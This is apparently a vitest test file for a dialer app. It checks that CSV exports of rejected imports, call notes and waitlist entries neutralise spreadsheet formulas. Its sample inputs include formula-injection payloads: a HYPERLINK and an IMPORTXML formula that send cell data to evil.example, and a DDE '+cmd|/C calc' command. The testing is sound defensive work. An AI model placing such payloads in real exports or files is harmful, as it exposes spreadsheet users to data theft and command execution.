import { parse } from 'csv-parse/sync';
import { ObjectId } from 'mongodb';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { saveNotes } from '../../server/features/dialer/calls-service.js';
import { callsCollection } from '../../server/features/dialer/repository.js';
import { joinWaitlist } from '../../server/features/waitlist/service.js';
import { buildTestApp, type TestApp } from '../support/app.js';
import { createUser, type CreatedUser } from '../support/factories.js';
import { createCampaignWithAgents, uploadCsv, waitForImport } from '../support/leads.js';

// Every CSV the product exports, each with cells a stranger could type: a spreadsheet must never run any of them.
const PLANTED = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '@SUM(1+1)', '-2+3', '\t=1+1', '+cmd|/C calc!A0'];

let testApp: TestApp;
let admin: CreatedUser;

beforeAll(async () => {
  testApp = await buildTestApp();
  admin = await createUser(testApp, { role: 'admin' });
});

afterAll(async () => {
  await testApp?.close();
});

async function exported(path: string, token: string): Promise<string[][]> {
  const res = await fetch(`${testApp.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  return parse(await res.text(), { relax_column_count: true }) as string[][];
}

function expectNeutralised(rows: string[][], planted: string[]) {
  const cells = rows.flat();
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  for (const text of planted) expect(cells).toContain(`'${text}`);
}

describe('CSV exports neutralise spreadsheet formulas', () => {
  it('GET /api/imports/:id/rejected.csv: the rejected rows an owner uploaded, headers included', async () => {
    const campaign = await createCampaignWithAgents(testApp, 0);
    // Every row has a bad e-mail, so every row (and its planted cells) lands in the report.
    const quoted = (cells: string[]) => cells.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(',');
    const lines = [quoted(['Full Name', 'Email', 'Phone', '=IMPORTXML("http://evil.example","//a")'])];
    for (const [i, text] of PLANTED.entries())
      lines.push(quoted([text, `@not-an-email-${i}`, '-2+3', PLANTED[(i + 1) % PLANTED.length]]));
    const upload = await uploadCsv(testApp, campaign.owner.accessToken, campaign.campaignId, `${lines.join('\n')}\n`);
    expect(upload.status).toBe(202);
    const status = await waitForImport(testApp, campaign.owner.accessToken, upload.body.importId as string);
    expect(status).toMatchObject({ status: 'completed', skipped: PLANTED.length });

    for (const reader of [campaign.owner, admin]) {
      const report = await exported(`/api/imports/${upload.body.importId as string}/rejected.csv`, reader.accessToken);
      expect(report).toHaveLength(PLANTED.length + 1);
      expectNeutralised(report, [...PLANTED, '=IMPORTXML("http://evil.example","//a")', '@not-an-email-0']);
    }
  });

  it('GET /api/calls/export.csv: lead names and call notes', async () => {
    const agent = await createUser(testApp);
    const ids = PLANTED.map(() => new ObjectId());
    await callsCollection(testApp.platform.db).insertMany(
      PLANTED.map((name, i) => ({
        _id: ids[i],
        agentId: agent.user._id,
        phone: '5552001000',
        phoneDigits: '5552001000',
        name,
        direction: 'outbound' as const,
        state: 'ended' as const,
        status: 'missed' as const,
        muted: false,
        startedAt: new Date(testApp.platform.clock.now().getTime() - i * 1000),
        duration: 0,
        timeline: [],
        notes: '',
        autoDialed: false,
        provider: 'Zoom Phone',
      })),
    );
    for (const [i, id] of ids.entries())
      await saveNotes(testApp.platform, agent.user, id.toHexString(), PLANTED[(i + 1) % PLANTED.length]);

    const report = await exported('/api/calls/export.csv', agent.accessToken);
    expect(report).toHaveLength(PLANTED.length + 1);
    expectNeutralised(report, PLANTED);
  });

  it('GET /api/admin/waitlist/export.csv: what people typed into the waitlist form', async () => {
    for (const [i, text] of PLANTED.entries()) {
      await joinWaitlist(testApp.platform, {
        name: text,
        email: `planted${i}@example.com`,
        contact: PLANTED[(i + 2) % PLANTED.length],
        campaignInterest: 'Other',
      });
    }
    const report = await exported('/api/admin/waitlist/export.csv', admin.accessToken);
    expect(report.length).toBeGreaterThan(PLANTED.length);
    // The form trims what people type, so the tab-prefixed one arrives as a bare formula.
    expectNeutralised(
      report,
      PLANTED.map((text) => text.trim()),
    );
  });
});
